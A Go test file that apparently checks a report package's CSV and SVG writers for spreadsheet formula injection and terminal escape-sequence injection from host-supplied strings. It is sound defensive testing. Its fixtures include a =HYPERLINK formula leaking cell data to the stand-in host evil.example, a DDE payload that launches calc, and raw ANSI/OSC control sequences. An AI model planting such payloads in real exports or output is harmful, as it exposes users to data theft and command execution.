package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// A CSV report is opened in a spreadsheet, which runs a cell starting with = + - @ as a formula
// (=HYPERLINK, =WEBSERVICE, DDE): a build string, kernel name or failure message a host printed
// must arrive as text. Numbers, negative ones included, stay numbers.
func TestCSVReportsNeverHandASpreadsheetAFormulaFromAHost(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	neg := -12.5
	var rows, fleet, cmp bytes.Buffer
	if err := WriteCSV(&rows, []*Row{{Host: "spark-01", Test: "smoke_test.load", Kernel: "@SUM(1+1)", Mode: "default", Result: "failed", Message: "+cmd|' /C calc'!A0"}}); err != nil {
		t.Fatal(err)
	}
	if err := WriteFleetCSV(&fleet, []*Summary{{Config: Config{Test: "smoke_test.load", Build: evil, Kernel: "6.17"}, Reason: "-2+3"}}); err != nil {
		t.Fatal(err)
	}
	if err := WriteCompareCSV(&cmp, []*Delta{{Host: "spark-01", Test: "t", Mode: "m", From: Side{Label: evil, Kernel: "\t=1+1"}, To: Side{Label: "6.17"}, ChangePct: &neg}}); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]*bytes.Buffer{"rows": &rows, "fleet": &fleet, "compare": &cmp} {
		recs, err := csv.NewReader(out).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !csvNumberRe.MatchString(cell) {
					t.Errorf("%s: cell %q would be a formula in a spreadsheet", name, cell)
				}
			}
		}
		if name == "compare" && !strings.Contains(strings.Join(recs[1], ","), "-12.500") {
			t.Errorf("compare: the negative change is no longer a number: %q", recs[1])
		}
		if name == "fleet" && recs[1][3] != "'"+evil {
			t.Errorf("fleet: build %q, want the host's text kept after a quote", recs[1][3])
		}
	}
}

// CSV and SVG reports go to standard output unless -o is given: a kernel, build or message a
// host printed reaches them escaped as in every other view, never as a raw ESC, C1 control or
// bidirectional override a terminal would act on (JSON was already escaped; CSV and SVG were not).
func TestCSVAndSVGReportsCarryNoTerminalControlsFromHosts(t *testing.T) {
	rows := []*Row{{Host: "spark-01", Test: "smoke_test.load", Kernel: "6.17\x1b]0;owned\x07", Mode: "mmap\u202e", Result: "failed", Message: "x\ry", Runs: 1, Results: 1, Failed: 1}}
	sums := []*Summary{{Config: Config{Test: "smoke_test.load", Build: "b\u009b2J", Kernel: "6.17\x1b[2J", Mode: "mmap\u202e"}, Hosts: 1}}
	var csvRows, svgRows, csvFleet, svgFleet bytes.Buffer
	for _, err := range []error{WriteCSV(&csvRows, rows), WriteSVG(&svgRows, rows), WriteFleetCSV(&csvFleet, sums), WriteFleetSVG(&svgFleet, sums)} {
		if err != nil {
			t.Fatal(err)
		}
	}
	for name, out := range map[string]string{"csv": csvRows.String(), "svg": svgRows.String(), "fleet csv": csvFleet.String(), "fleet svg": svgFleet.String()} {
		if i := strings.IndexAny(out, "\x1b\u009b\u202e\r\x07"); i >= 0 {
			t.Errorf("%s output holds %q raw at %d", name, out[i:min(len(out), i+8)], i)
		}
	}
	if !strings.Contains(csvRows.String(), `6.17\x1b]0;owned\x07`) {
		t.Errorf("the kernel is not shown escaped: %s", csvRows.String())
	}
}
